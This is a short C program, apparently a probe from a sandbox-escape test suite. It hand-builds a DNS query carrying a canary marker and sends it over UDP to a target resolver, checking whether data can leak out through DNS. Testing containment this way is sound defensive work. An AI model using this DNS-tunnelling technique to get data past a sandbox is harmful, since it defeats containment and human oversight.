/* A resolver of our own: the canary is asked, over UDP. */
#include "escape.h"
int main(int argc, char **argv) {
	begin(argc, argv);
	uint8_t query[300] = { 0, 1, 1, 0, 0, 1 };
	size_t length = strlen(marker);
	query[12] = length;
	memcpy(query + 13, marker, length);
	memcpy(query + 13 + length, "\7example\0\0\1\0\1", 13);
	int client = DO(socket(FAMILY, SOCK_DGRAM, 0));
	DO(sendto(client, query, 13 + length + 13, 0, TARGET, target_length));
}
